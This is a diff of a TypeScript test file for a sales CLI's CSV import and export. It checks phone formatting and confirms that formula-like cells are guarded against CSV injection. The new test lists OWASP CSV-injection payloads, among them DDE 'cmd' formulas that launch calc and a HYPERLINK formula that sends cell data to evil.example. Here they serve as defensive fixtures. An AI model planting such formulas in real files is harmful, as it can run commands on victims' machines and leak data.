@@ -7,6 +7,7 @@
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
+import Papa from 'papaparse';
 import { main } from '../../cli/salesdesk';
 import { LocalRuntime } from '../../runtime';
 import { readTable } from '../../src/core/table';
@@ -104,15 +105,84 @@ describe.each(['en', 'zh-CN'] as const)('phones in a %s workbook', (locale) => {
     expect((await cli('export-csv', '--in', imported, '--sheet', CUSTOMERS[locale], '--csv', csv)).code).toBe(
       0,
     );
-    // Formula-looking text is still neutralised in the file (OWASP)...
-    expect(fs.readFileSync(csv, 'utf8')).toContain(",'+86 138 0013 8000,");
-    // ...and the import takes the guard off again: all rows back, every field as it was.
+    // Phones are written with the international prefix 00: not formula-like, so no apostrophe for Excel to show...
+    const text = fs.readFileSync(csv, 'utf8');
+    expect(text).toContain(',0086 138 0013 8000,');
+    expect(text).toContain(',0086 10 1234 5678,');
+    expect(text).not.toContain("'");
+    // ...and the import reads them back in the stored +86 form: all rows back, every field as it was.
     const again = path.join(dir, `again-${locale}.xlsx`);
     const run = await cli('import-csv', csv, '--in', blank[locale], '--out', again, '--json');
     expect(JSON.parse(run.out)).toMatchObject({ ok: true, added: 7, bad: 0 });
     const keys = ['id', 'company', 'contact', 'phone', 'email', 'owner', 'created'];
     const pick = (row: Record<string, unknown>) => keys.map((key) => row[key]);
     expect((await customerRows(again)).map(pick)).toEqual((await customerRows(imported)).map(pick));
+  });
+
+  it('guards only formula-like text (the OWASP CSV-injection cases) and re-imports it as text', async () => {
+    const payloads = [
+      "=cmd|' /C calc'!A0",
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+9)*cmd|' /C calc'!A0",
+      '\t=1+1',
+    ];
+    const quoted = (value: string) => `"${value.replace(/"/g, '""')}"`;
+    const input = [
+      '客户名称,联系人,手机,备注',
+      ...payloads.map((payload, i) =>
+        [quoted(payload), `联系人${i}`, `139 1234 56${10 + i}`, quoted(payload)].join(','),
+      ),
+      '普通公司,王五,+44 20 7946 0000,a=b; call at 10:00',
+    ].join('\r\n');
+    const source = path.join(dir, `owasp-${locale}.csv`);
+    fs.writeFileSync(source, input);
+    const book = path.join(dir, `owasp-${locale}.xlsx`);
+    const first = await cli('import-csv', source, '--in', blank[locale], '--out', book, '--json');
+    expect(JSON.parse(first.out)).toMatchObject({ ok: true, added: payloads.length + 1, bad: 0 });
+
+    const csv = path.join(dir, `owasp-export-${locale}.csv`);
+    expect((await cli('export-csv', '--in', book, '--sheet', CUSTOMERS[locale], '--csv', csv)).code).toBe(0);
+    const rows = Papa.parse<string[]>(fs.readFileSync(csv, 'utf8').replace(/^\ufeff/, ''), {
+      skipEmptyLines: true,
+    }).data;
+    const column = (key: string) => {
+      const spec = columnHeaders('customers').find((c) => c.key === key)!;
+      return rows[0].findIndex((h) => spec.headers.includes(h));
+    };
+    const body = rows.slice(1);
+    // Every cell a spreadsheet would run as a formula carries the guard; no other cell does.
+    for (const row of body)
+      for (const cell of row)
+        expect({ cell, guarded: cell.startsWith("'") }).toEqual({
+          cell,
+          guarded: /^'[=+\-@\t\r]/.test(cell),
+        });
+    // (The import trims cells, so the tab payload is stored, and exported, as `=1+1`.)
+    const stored = payloads.map((p) => p.trim());
+    expect(body.map((row) => row[column('company')])).toEqual([...stored.map((p) => `'${p}`), '普通公司']);
+    expect(body.map((row) => row[column('phone')])).toEqual([
+      ...payloads.map((_, i) => `0086 139 1234 56${10 + i}`),
+      '0044 20 7946 0000',
+    ]);
+
+    const again = path.join(dir, `owasp-again-${locale}.xlsx`);
+    const second = await cli('import-csv', csv, '--in', blank[locale], '--out', again, '--json');
+    expect(JSON.parse(second.out)).toMatchObject({ ok: true, added: payloads.length + 1, bad: 0 });
+    const keys = ['company', 'contact', 'phone', 'notes'];
+    const pick = (row: Record<string, unknown>) => keys.map((key) => row[key]);
+    const back = (await customerRows(again)).map(pick);
+    expect(back).toEqual((await customerRows(book)).map(pick));
+    expect(back.map((row) => row[0])).toEqual([...stored, '普通公司']);
+    // Stored as text, never as formulas.
+    const rt = await LocalRuntime.fromXlsx(again);
+    const formulas = (rt.workbook as unknown as { sheetFormulas(name: string): string[][] }).sheetFormulas(
+      customersSheet(rt).name,
+    );
+    expect(
+      formulas.flat().filter((f) => f !== '' && payloads.some((p) => f.includes(p.slice(1, 8)))),
+    ).toEqual([]);
   });
 
   it('Check data accepts how Chinese teams write numbers and names the bad ones; the sheet rule agrees', async () => {
